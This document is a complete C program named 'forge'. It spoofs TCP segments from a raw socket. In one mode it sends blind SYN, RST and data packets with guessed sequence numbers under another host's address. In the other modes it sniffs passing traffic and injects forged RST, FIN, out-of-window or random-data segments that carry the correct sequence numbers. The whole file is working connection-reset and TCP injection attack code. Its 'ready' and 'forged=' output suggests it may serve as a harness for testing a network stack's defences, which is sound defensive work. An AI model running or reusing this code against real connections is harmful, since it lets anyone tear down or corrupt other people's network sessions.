/*
 * forge: TCP segments in the name of somebody else, from a raw socket. Blind,
 * as one who is not on the way and has to guess the sequence number; or with
 * the right one, read from what passes by on its way.
 */
#include <sys/socket.h>

#include <arpa/inet.h>
#include <bsd/stdlib.h>
#include <err.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define HEADERS_BYTES (sizeof(struct iphdr) + sizeof(struct tcphdr))
#define HEADERS_MAX 120 /* of both, with all options */
#define PAYLOAD_BYTES 200
#define WINDOW_STEP 60001 /* in the window, and not its left edge */

static const char usage_text[] =
    "usage: forge KIND FROM TO COUNT\n"
    "\n"
    "  KIND   blind   SYN, RST and data in turns, with random numbers\n"
    "         rst     behind each segment that passes by\n"
    "         window  the same, but not quite there\n"
    "         fin     the same as rst, but an orderly end\n"
    "         data    the same, but random bytes\n"
    "  FROM, TO  ADDRESS:PORT; but for blind, a port may be 0: any\n";

static struct sockaddr_in from, to;
static int out;

union packet {
	struct iphdr ip;
	uint8_t bytes[HEADERS_MAX + PAYLOAD_BYTES];
};

static struct tcphdr *
tcp_of(union packet *packet)
{
	return (struct tcphdr *)(packet->bytes + packet->ip.ihl * 4);
}

static uint32_t
sum(uint32_t total, const void *bytes, size_t count)
{
	const uint8_t *at = bytes;

	for (size_t i = 0; i < count; i++)
		total += i % 2 == 0 ? (uint32_t)at[i] << 8 : at[i];
	return total;
}

static uint16_t
fold(uint32_t total)
{
	total = (total >> 16) + (total & 0xffff);
	total += total >> 16;
	return htons((uint16_t)~total);
}

/* The headers stand but for lengths and checksums. */
static void
send_packet(union packet *packet, size_t payload)
{
	struct tcphdr *tcp = tcp_of(packet);
	size_t tcp_bytes = tcp->doff * 4u + payload;
	struct sockaddr_in target = { .sin_family = AF_INET,
		.sin_addr.s_addr = packet->ip.daddr };

	arc4random_buf((uint8_t *)tcp + tcp->doff * 4, payload);
	packet->ip.tot_len = htons((uint16_t)(packet->ip.ihl * 4u + tcp_bytes));
	packet->ip.check = 0; /* the kernel's */
	tcp->check = 0;
	tcp->check = fold(
	    sum(sum(IPPROTO_TCP + (uint32_t)tcp_bytes, &packet->ip.saddr, 8),
		tcp, tcp_bytes));
	if (sendto(out, packet, packet->ip.ihl * 4u + tcp_bytes, 0,
		(struct sockaddr *)&target, sizeof(target)) == -1)
		warn("sendto");
}

/* --- blind -----------------------------------------------------------------*/

static void
guess(unsigned int number)
{
	union packet packet = { .ip = { .version = 4,
				    .ihl = 5,
				    .ttl = 64,
				    .protocol = IPPROTO_TCP } };
	struct tcphdr *tcp = tcp_of(&packet);

	packet.ip.saddr = from.sin_addr.s_addr;
	packet.ip.daddr = to.sin_addr.s_addr;
	tcp->source = from.sin_port;
	tcp->dest = to.sin_port;
	tcp->seq = arc4random();
	tcp->ack_seq = arc4random();
	tcp->doff = 5;
	tcp->window = 0xffff;
	tcp->rst = number % 3 == 0;
	tcp->syn = number % 3 == 1;
	tcp->ack = number % 3 == 2;
	send_packet(&packet, tcp->ack ? PAYLOAD_BYTES : 0);
}

/* --- on the way ------------------------------------------------------------*/

static bool
is_other(const struct sockaddr_in *wanted, uint32_t address, uint16_t port)
{
	return wanted->sin_addr.s_addr != address ||
	    (wanted->sin_port != 0 && wanted->sin_port != port);
}

/* The next segment that passes by; returns its payload's length. */
static size_t
overhear(int in, union packet *packet)
{
	size_t headers, total;
	struct tcphdr *tcp;
	ssize_t got;

	for (;;) {
		got = recv(in, packet, sizeof(*packet), 0);
		if (got < (ssize_t)HEADERS_BYTES ||
		    packet->ip.protocol != IPPROTO_TCP || packet->ip.ihl < 5)
			continue;
		tcp = tcp_of(packet);
		headers = packet->ip.ihl * 4u + tcp->doff * 4u;
		total = ntohs(packet->ip.tot_len);
		if (headers <= (size_t)got && headers <= HEADERS_MAX &&
		    headers <= total && !tcp->syn && !tcp->rst && !tcp->fin &&
		    !is_other(&from, packet->ip.saddr, tcp->source) &&
		    !is_other(&to, packet->ip.daddr, tcp->dest))
			return total - headers;
	}
}

static void
put_behind(int in, const char *kind)
{
	union packet packet;
	size_t passed = overhear(in, &packet);
	struct tcphdr *tcp = tcp_of(&packet);
	bool data = strcmp(kind, "data") == 0;

	tcp->seq = htonl(ntohl(tcp->seq) + (uint32_t)passed);
	if (strcmp(kind, "window") == 0)
		tcp->seq = htonl(ntohl(tcp->seq) + WINDOW_STEP);
	tcp->psh = data;
	tcp->fin = strcmp(kind, "fin") == 0;
	tcp->rst = !data && !tcp->fin;
	send_packet(&packet, data ? PAYLOAD_BYTES : 0);
}

/* --- options ---------------------------------------------------------------*/

static void
parse(const char *text, struct sockaddr_in *address)
{
	char host[INET_ADDRSTRLEN];
	unsigned short port;

	if (sscanf(text, "%15[0-9.]:%hu", host, &port) != 2 ||
	    inet_pton(AF_INET, host, &address->sin_addr) != 1)
		errx(2, "%s: not ADDRESS:PORT", text);
	address->sin_port = htons(port);
}

int
main(int argc, char **argv)
{
	int in = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	unsigned int count;

	out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (argc != 5) {
		fputs(usage_text, stderr);
		return 2;
	}
	if (in == -1 || out == -1)
		err(1, "socket");
	parse(argv[2], &from);
	parse(argv[3], &to);
	count = (unsigned int)atoi(argv[4]);
	printf("ready\n");
	fflush(stdout);
	for (unsigned int i = 0; i < count; i++) {
		if (strcmp(argv[1], "blind") == 0)
			guess(i);
		else
			put_behind(in, argv[1]);
	}
	printf("forged=%u\n", count);
	return 0;
}
